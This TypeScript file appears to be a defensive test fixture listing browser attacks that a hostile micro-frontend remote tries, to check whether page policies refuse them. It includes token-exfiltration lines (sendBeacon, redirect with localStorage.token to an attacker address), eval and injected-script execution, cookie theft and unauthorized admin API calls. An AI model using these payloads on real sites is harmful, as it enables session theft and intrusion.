/** An attack that a remote tries in the browser. */
export interface BrowserAttack {
  readonly name: string;
  /**
   * The body of an async function in the bundle of the remote, with the target as `t`. It returns `t.reached` when it
   * succeeds. A refusal is an error, or an event `securitypolicyviolation`.
   */
  readonly code: string;
  /** Code that must succeed on the same page. Without it, the attack itself must succeed on a page without a policy. */
  readonly control?: string;
  /** The page navigates to another site when the attack succeeds. */
  readonly leavesPage?: true;
  /** The attack and its control change nothing in the document, so that the next attack can run there. */
  readonly keepsDocument?: true;
}

export interface AttackTarget {
  readonly reached: 'reached';
  /** An address of the attacker for one try of one attack. Each request to it, or to a path below it, counts as a success. */
  readonly other: string;
  /** A server for peer connections of the attacker. Each datagram counts as a success. */
  readonly stun: string;
  /** A script of a deployed release, and of a release that was published and never deployed. */
  readonly deployed: string;
  readonly undeployed: string;
  /** The global name of the container of another remote. */
  readonly container: string;
  /** The name of the session cookie. */
  readonly cookie: string;
}

/** Functions for the code of attacks. `loaded` waits until an element is loaded, or throws after an error. */
const HELPERS = `const loaded = (element, parent = document.body) => new Promise((resolve, reject) => {
  element.onload = () => resolve(t.reached);
  element.onerror = () => reject(new Error('refused'));
  parent.append(element);
});
const make = (tag, properties) => Object.assign(document.createElement(tag), properties);
const never = new Promise(() => {});
`;
const attack = (name: string, code: string, control?: string): BrowserAttack => ({
  ...{ name, code: HELPERS + code },
  ...(control !== undefined && { control: HELPERS + control }),
});

/** Ways to send the token to another site without leaving the page. */
const SENDING = [
  attack('fetch', `await fetch(t.other, { mode: 'no-cors' }); return t.reached;`),
  attack('XMLHttpRequest', `const x = new XMLHttpRequest(); x.open('GET', t.other); x.send(); await never;`),
  attack('sendBeacon', `navigator.sendBeacon(t.other, localStorage.token); await never;`),
  attack('WebSocket', `new WebSocket(t.other.replace('http', 'ws')); await never;`),
  attack('EventSource', `new EventSource(t.other); await never;`),
  attack('ping of a link', `make('a', { href: '#x', ping: t.other }).click(); await never;`),
  attack('image', `return loaded(make('img', { src: t.other }));`),
  attack('background image', `document.body.style.backgroundImage = 'url(' + t.other + ')'; await never;`),
  attack('font', `await new FontFace('x', 'url(' + t.other + ')').load(); return t.reached;`),
  attack('video', `document.body.append(make('video', { src: t.other })); await never;`),
  attack('style sheet', `return loaded(make('link', { rel: 'stylesheet', href: t.other }));`),
  attack('frame', `document.body.append(make('iframe', { src: t.other })); await never;`),
  attack('object', `return loaded(make('object', { data: t.other }));`),
  {
    ...attack(
      'form',
      `const form = make('form', { action: t.other }); document.body.append(form); form.submit(); await never;`,
    ),
    leavesPage: true,
  },
  attack('preload', `return loaded(make('link', { rel: 'preload', as: 'fetch', crossOrigin: '', href: t.other }));`),
  attack('module preload', `return loaded(make('link', { rel: 'modulepreload', href: t.other + '/x.js' }));`),
  attack('prefetch', `return loaded(make('link', { rel: 'prefetch', href: t.other }));`),
  attack(
    'fetch of an empty frame',
    `const frame = make('iframe', {}); document.body.append(frame);
    await frame.contentWindow.fetch(t.other, { mode: 'no-cors' }); return t.reached;`,
  ),
  attack(
    'fetch of an empty window',
    `const opened = window.open('about:blank');
    return opened.fetch(t.other, { mode: 'no-cors' }).then(() => t.reached).finally(() => opened.close());`,
  ),
] as const;

/** Ways to run code that is in no deployed release. */
const CODE = [
  attack('eval', `return (0, eval)('t => t')(t.reached);`),
  attack('new Function', `return new Function('t', 'return t')(t.reached);`),
  attack(
    'a timer with a text',
    `window.reach = () => fetch(t.other, { mode: 'no-cors' }); setTimeout('reach()'); await never;`,
  ),
  attack('a script of another site', `return loaded(make('script', { src: t.other + '/x.js' }));`),
  attack('a module of another site', `await import(/* webpackIgnore: true */ t.other + '/x.js'); return t.reached;`),
  attack(
    'a module in a data URL',
    `await import(/* webpackIgnore: true */ 'data:text/javascript,1'); return t.reached;`,
  ),
  attack(
    'a module in a blob',
    `await import(/* webpackIgnore: true */ URL.createObjectURL(new Blob(['1'], { type: 'text/javascript' })));
    return t.reached;`,
  ),
  attack(
    'a script with a text',
    `document.body.append(make('script', { textContent: 'globalThis.ran = true' })); return ran && t.reached;`,
  ),
  attack(
    'an event handler in inserted HTML',
    `document.body.insertAdjacentHTML('beforeend', '<img src="/none" onerror="globalThis.handled = true">');
    await new Promise((resolve) => setInterval(() => globalThis.handled && resolve(), 10)); return t.reached;`,
  ),
  attack(
    'an attribute with a handler',
    `const button = make('button', {}); button.setAttribute('onclick', 'globalThis.clicked = true'); button.click();
    return clicked && t.reached;`,
  ),
  attack(
    'a javascript: URL',
    `window.reach = () => fetch(t.other, { mode: 'no-cors' }); make('a', { href: 'javascript:reach()' }).click(); await never;`,
  ),
  attack(
    'a frame with a text',
    `window.reach = () => fetch(t.other, { mode: 'no-cors' });
    document.body.append(make('iframe', { srcdoc: '<script>parent.reach()</' + 'script>' })); await never;`,
  ),
  attack(
    'a policy of Trusted Types',
    `const policy = trustedTypes.createPolicy('hostile', { createHTML: (text) => text });
    make('b', {}).innerHTML = policy.createHTML('x'); return t.reached;`,
  ),
  attack(
    'a script of a release that was never deployed',
    `return loaded(make('script', { src: t.undeployed }));`,
    `return loaded(make('script', { src: t.deployed }));`,
  ),
  attack(
    'a script of the site that is in no release',
    `return loaded(make('script', { src: '/assets/../x.js' }));`,
    `return loaded(make('script', { src: t.deployed }));`,
  ),
] as const;

/** Ways to run after the page is left, or to change what other pages load. */
const PERSISTING = [
  attack(
    'worker',
    `const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
    await new Promise((resolve) => { worker.onmessage = resolve; }); return t.reached;`,
  ),
  attack(
    'shared worker',
    `const { port } = new SharedWorker(URL.createObjectURL(new Blob(['onconnect = ({ ports }) => ports[0].postMessage(1)'])));
    await new Promise((resolve) => { port.onmessage = resolve; }); return t.reached;`,
  ),
  attack(
    'service worker',
    `await navigator.serviceWorker.register(t.deployed); return t.reached;`,
    `return loaded(make('script', { src: t.deployed }));`,
  ),
  attack(
    'base',
    `document.head.prepend(make('base', { href: t.other })); await new Promise((r) => setTimeout(r));
    return document.baseURI.startsWith(t.other) ? t.reached : never;`,
  ),
] as const;

/** Ways to the cookie of the session. */
const COOKIE = [
  attack(
    'read the cookie',
    `if (!document.cookie.includes(t.cookie)) throw new Error('refused'); return t.reached;`,
    `document.cookie = 'readable=1'; if (document.cookie.includes('readable=1')) return t.reached;`,
  ),
  attack(
    'read the cookie from the cookie store',
    `if (!(await cookieStore.getAll()).some(({ name }) => name === t.cookie)) throw new Error('refused'); return t.reached;`,
    `document.cookie = 'stored=1'; if (await cookieStore.get('stored')) return t.reached;`,
  ),
  attack(
    'set the cookie',
    `document.cookie = t.cookie + '=mine; path=/'; if (!document.cookie.includes('=mine')) throw new Error('refused');
    return t.reached;`,
    `document.cookie = 'free=mine; path=/'; if (document.cookie.includes('free=mine')) return t.reached;`,
  ),
  attack(
    'read the cookie from an echo of the request',
    `await fetch('/api/v1', { method: 'TRACE' }); return t.reached;`,
    `await fetch('/api/v1', { method: 'HEAD' }); return t.reached;`,
  ),
] as const;

/** The end of an attack on the reserved global name of a container, and the control with a name that is free. */
const RESERVED = `if (globalThis[t.container]?.fake) return t.reached; throw new Error('refused');`;
const FREE = `globalThis.free_name = { fake: true }; if (globalThis.free_name.fake) return t.reached;`;

/** Ways to take the place of another remote. */
const OTHER_REMOTES = [
  attack('assign the name of its container', `globalThis[t.container] = { fake: true }; ${RESERVED}`, FREE),
  attack(
    'define the name of its container',
    `Object.defineProperty(globalThis, t.container, { value: { fake: true } }); ${RESERVED}`,
    FREE,
  ),
  attack(
    'delete the name of its container first',
    `delete globalThis[t.container]; globalThis[t.container] = { fake: true }; ${RESERVED}`,
    FREE,
  ),
  attack(
    'pretend that its own script runs',
    `const script = [...document.scripts].at(-1); Object.defineProperty(document, 'currentScript', { get: () => script });
    globalThis[t.container] = { fake: true }; ${RESERVED}`,
    FREE,
  ),
] as const;

const CALL = `const call = async (refusal, path, method = 'GET', body = undefined) => {
  const headers = { authorization: localStorage.token, 'content-type': 'application/json', 'idempotency-key': crypto.randomUUID() };
  const { status } = await fetch('/api/v1' + path, { method, body: body && JSON.stringify(body), headers });
  if (status === refusal) throw new Error('refused');
  return status < 300 ? t.reached : status;
};
`;
const call = (path: string, refusal: number, more = ''): string =>
  `${CALL} return call(${refusal}, ${JSON.stringify(path)}${more});`;
const OWN_CALL = call('/users/account', 401);

/** Calls that need more than the token of the creator whose page is open. */
const CALLS = [
  attack('list the releases', call('/admin/releases', 403), OWN_CALL),
  attack(
    'promote its own release',
    call('/admin/releases/mfe-test/promote', 403, `, 'POST', { message: 'x' }`),
    OWN_CALL,
  ),
  attack('enable itself', call('/admin/releases/mfe-test/enable', 403, `, 'POST', { message: 'x' }`), OWN_CALL),
  attack('list the operators', call('/admin/operators', 404), OWN_CALL),
  attack('end the sessions of all users', call('/admin/sessions', 404, `, 'DELETE'`), OWN_CALL),
  attack(
    'change the password without the password',
    call('/users/password', 403, `, 'PATCH', { currentPassword: 'a guess of it', password: 'marigold-awning-8' }`),
    OWN_CALL,
  ),
] as const;

export const BROWSER_ATTACKS: readonly BrowserAttack[] = [
  ...SENDING,
  ...CODE,
  ...PERSISTING,
  ...OTHER_REMOTES,
  ...[...COOKIE, ...CALLS].map((each): BrowserAttack => ({ ...each, keepsDocument: true })),
];

/** Actions of a remote as the user on the page that is open. `infra/docs/security.md` names these actions. */
export const ACTIONS_OF_USER: readonly BrowserAttack[] = [
  attack('read the token', `return typeof localStorage.token === 'string' && t.reached;`),
  attack('call the API', OWN_CALL),
  attack('draw a field for a password', `document.body.append(make('input', { type: 'password' })); return t.reached;`),
  {
    ...attack(
      'open another site with the token in its address',
      `location.href = t.other + '/?' + localStorage.token; await never;`,
    ),
    leavesPage: true,
  },
  // Chromium 156 does not know the directive `webrtc 'block'`.
  attack(
    'open a peer connection to another server',
    `const peer = new RTCPeerConnection({ iceServers: [{ urls: t.stun }] });
    peer.createDataChannel('x'); await peer.setLocalDescription(); await never;`,
  ),
  attack('log out', `localStorage.clear(); return localStorage.length === 0 && t.reached;`),
];

/** The code of the remote. In the page, the global `attack(name, target)` tries an attack, and `control` its control. */
export const ATTACKING_CODE = `
const bodies = {
  attack: { ${[...BROWSER_ATTACKS, ...ACTIONS_OF_USER].map(({ name, code }) => `${JSON.stringify(name)}: async (t) => { ${code} }`).join(',\n')} },
  control: { ${BROWSER_ATTACKS.flatMap(({ name, control }) =>
    control === undefined ? [] : [`${JSON.stringify(name)}: async (t) => { ${control} }`],
  ).join(',\n')} },
};
const outcomeOf = (body, target) => new Promise((resolve) => {
  const stop = new AbortController();
  const end = (outcome) => { stop.abort(); resolve(outcome); };
  addEventListener('securitypolicyviolation', () => end('refused'), { signal: stop.signal });
  body(target).then((outcome) => end(outcome === target.reached ? outcome : 'nothing'), () => end('refused'));
});
// A timer, because the browser allows \`eval\` to code that a debugger started.
for (const kind of ['attack', 'control'])
  globalThis[kind] = (name, target) => new Promise((resolve) => setTimeout(() => resolve(outcomeOf(bodies[kind][name], target))));
`;
